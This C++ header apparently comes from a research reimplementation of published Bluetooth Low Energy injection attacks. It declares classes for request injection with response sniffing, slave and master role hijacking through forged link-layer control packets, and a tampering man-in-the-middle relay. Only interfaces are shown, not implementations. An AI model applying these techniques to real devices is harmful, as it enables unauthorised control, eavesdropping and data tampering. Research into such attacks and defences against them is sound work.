// The four attack scenarios of paper §VI, built on AttackSession.
//
//  A — illegitimately using a device functionality: inject ATT requests and
//      (for reads) sniff the response the slave sends to the legitimate
//      master.
//  B — hijacking the Slave role: inject LL_TERMINATE_IND (the master ignores
//      it, the slave obeys and leaves), then impersonate the slave towards
//      the unsuspecting master.
//  C — hijacking the Master role: inject a forged LL_CONNECTION_UPDATE_IND;
//      at its instant the slave jumps to the attacker-chosen transmit window,
//      deaf to the legitimate master (which dies of supervision timeout),
//      and the attacker becomes its master.
//  D — Man-in-the-Middle: scenario C towards the slave, plus a second radio
//      impersonating the slave towards the legitimate master, with a
//      tampering relay in between (the paper's on-the-fly SMS/RGB rewrite).
#pragma once

#include <functional>
#include <memory>
#include <optional>

#include "att/client.hpp"
#include "att/server.hpp"
#include "core/session.hpp"
#include "host/l2cap.hpp"
#include "link/connection.hpp"

namespace injectable {

/// A Link-Layer endpoint the attacker runs after a hijack: a Connection on an
/// AttackerRadio plus L2CAP, acting as a GATT server (fake slave), a GATT
/// client (fake master), or a raw SDU tap (MitM relay half).
class EmulatedEndpoint {
public:
    enum class Upper : std::uint8_t { kServer, kClient, kTap };

    EmulatedEndpoint(AttackerRadio& radio, ble::link::ConnectionConfig config, Upper upper,
                     ble::att::AttServer* server = nullptr);
    ~EmulatedEndpoint();

    EmulatedEndpoint(const EmulatedEndpoint&) = delete;
    EmulatedEndpoint& operator=(const EmulatedEndpoint&) = delete;

    /// Arms the first event (see link::Connection::resume).
    void resume(ble::TimePoint next_anchor);

    [[nodiscard]] ble::link::Connection& connection() noexcept { return *connection_; }
    /// Only valid for Upper::kClient.
    [[nodiscard]] ble::att::AttClient& client() noexcept { return *client_; }

    void send_sdu(std::uint16_t cid, ble::BytesView sdu);
    /// Server mode: push a Handle Value Notification to the peer — the
    /// paper's future-work keystroke-injection vector once the attacker owns
    /// the slave role with a forged HID profile.
    void notify(std::uint16_t handle, ble::BytesView value);

    /// Raw SDU tap (fires for every reassembled SDU, all Upper modes); the
    /// view is valid only during the call.
    std::function<void(std::uint16_t cid, ble::BytesView)> on_sdu;
    std::function<void(ble::link::DisconnectReason)> on_disconnected;
    std::function<void(const ble::link::ConnectionEventReport&)> on_event;

private:
    AttackerRadio& radio_;
    Upper upper_;
    ble::att::AttServer* server_ = nullptr;
    std::unique_ptr<ble::att::AttClient> client_;
    std::unique_ptr<ble::link::Connection> connection_;
    std::unique_ptr<ble::host::L2capChannel> l2cap_;
};

/// Scenario A.
class ScenarioA {
public:
    explicit ScenarioA(AttackSession& session) : session_(session) {}

    struct Result {
        bool success = false;
        int attempts = 0;
    };

    /// Injects an ATT Write Request (or Command if `command`).
    void inject_write(std::uint16_t handle, ble::Bytes value,
                      std::function<void(const Result&)> done, bool command = false,
                      int max_attempts = 50);

    /// Injects an ATT Read Request, then keeps sniffing: the slave's Read
    /// Response goes to the *legitimate* master, and the attacker overhears
    /// it. `done` receives the value when captured.
    void inject_read(std::uint16_t handle,
                     std::function<void(const Result&, std::optional<ble::Bytes>)> done,
                     int max_attempts = 50);

private:
    AttackSession& session_;
    // Read-capture state.
    std::function<void(const SniffedPacket&)> saved_packet_handler_;
    ble::Bytes reassembly_;
};

/// Scenario B.
class ScenarioB {
public:
    /// `fake_server` is the ATT database the attacker will serve once it owns
    /// the slave role (e.g. Device Name = "Hacked", §VI-B).
    ScenarioB(AttackSession& session, ble::att::AttServer& fake_server)
        : session_(session), fake_server_(fake_server) {}

    struct Result {
        bool success = false;
        int attempts = 0;
    };

    void execute(std::function<void(const Result&)> done, int max_attempts = 50);

    /// Valid after a successful execute: the attacker-run slave connection.
    [[nodiscard]] EmulatedEndpoint* hijacked_slave() noexcept { return endpoint_.get(); }

private:
    AttackSession& session_;
    ble::att::AttServer& fake_server_;
    std::unique_ptr<EmulatedEndpoint> endpoint_;
};

/// Parameters shared by the update-based hijacks (scenarios C and D).
struct UpdateHijackConfig {
    /// Events between the injected update and its instant (must leave the
    /// slave time to receive the update).
    std::uint16_t instant_delta = 8;
    /// WinOffset of the forged update (×1.25 ms). Shifts the new anchor
    /// away from the legitimate master's cadence.
    std::uint16_t win_offset = 2;
    /// New hop interval; 0 keeps the current one.
    std::uint16_t new_interval = 0;
    int max_attempts = 50;
};

/// Scenario C.
class ScenarioC {
public:
    using Config = UpdateHijackConfig;

    ScenarioC(AttackSession& session, Config config = {})
        : session_(session), config_(config) {}

    struct Result {
        bool success = false;
        int attempts = 0;
        std::uint16_t instant = 0;
    };

    void execute(std::function<void(const Result&)> done);

    /// Valid once execute reported success: attacker-run master + GATT client.
    [[nodiscard]] EmulatedEndpoint* hijacked_master() noexcept { return endpoint_.get(); }

private:
    void become_master();

    AttackSession& session_;
    Config config_;
    std::uint16_t instant_ = 0;
    ble::link::ConnectionUpdateInd update_{};
    std::function<void(const Result&)> done_;
    std::function<void()> retry_;
    Result result_;
    std::unique_ptr<EmulatedEndpoint> endpoint_;
};

/// Scenario C, slave-role variant (paper §VI-C: "this approach is
/// particularly powerful because it could also be used to hijack the Slave
/// role ... since the attacker knows both the old and the new parameters"):
/// inject the forged update, then take the *slave's* seat on the old cadence
/// towards the master. The real slave waits at the attacker-chosen new
/// window, hears nothing, and dies of supervision timeout — while the master
/// talks to the impostor without interruption.
class ScenarioCSlave {
public:
    using Config = UpdateHijackConfig;

    /// `fake_server` is served to the master once the seat is taken.
    ScenarioCSlave(AttackSession& session, ble::att::AttServer& fake_server,
                   Config config = {})
        : session_(session), fake_server_(fake_server), config_(config) {}

    struct Result {
        bool success = false;
        int attempts = 0;
    };

    void execute(std::function<void(const Result&)> done);

    [[nodiscard]] EmulatedEndpoint* hijacked_slave() noexcept { return endpoint_.get(); }

private:
    void become_slave();

    AttackSession& session_;
    ble::att::AttServer& fake_server_;
    Config config_;
    std::uint16_t instant_ = 0;
    ble::link::ConnectionUpdateInd update_{};
    std::function<void(const Result&)> done_;
    std::function<void()> retry_;
    Result result_;
    std::unique_ptr<EmulatedEndpoint> endpoint_;
};

/// Scenario D.
class ScenarioD {
public:
    using Config = ScenarioC::Config;

    /// `slave_side_radio` is the second front-end used to impersonate the
    /// slave towards the legitimate master. (The paper's dongle time-shares
    /// one radio between the two time-shifted connections; two half-duplex
    /// front-ends are behaviourally equivalent and keep the model honest.)
    ScenarioD(AttackSession& session, AttackerRadio& slave_side_radio, Config config = {})
        : session_(session), slave_radio_(slave_side_radio), config_(config) {}

    struct Result {
        bool success = false;
        int attempts = 0;
    };

    /// Rewrites SDUs in flight; return std::nullopt to drop. `from_master` is
    /// the direction of travel.
    std::function<std::optional<ble::Bytes>(ble::Bytes sdu, bool from_master)> tamper;

    void execute(std::function<void(const Result&)> done);

    [[nodiscard]] EmulatedEndpoint* master_side() noexcept { return master_side_.get(); }
    [[nodiscard]] EmulatedEndpoint* slave_side() noexcept { return slave_side_.get(); }

private:
    void split_connection();
    /// Forwards one SDU to `to`, through `tamper` when it is set.
    void relay(EmulatedEndpoint& to, std::uint16_t cid, ble::BytesView sdu, bool from_master);

    AttackSession& session_;
    AttackerRadio& slave_radio_;
    Config config_;
    std::uint16_t instant_ = 0;
    ble::link::ConnectionUpdateInd update_{};
    std::function<void(const Result&)> done_;
    std::function<void()> retry_;
    Result result_;
    /// Towards the real slave (attacker is master).
    std::unique_ptr<EmulatedEndpoint> master_side_;
    /// Towards the real master (attacker is slave).
    std::unique_ptr<EmulatedEndpoint> slave_side_;
};

/// Shared by C and D: builds the forged LL_CONNECTION_UPDATE_IND.
[[nodiscard]] ble::link::ConnectionUpdateInd forge_connection_update(
    const ble::link::ConnectionParams& current, std::uint16_t instant,
    std::uint16_t win_offset, std::uint16_t new_interval);

}  // namespace injectable
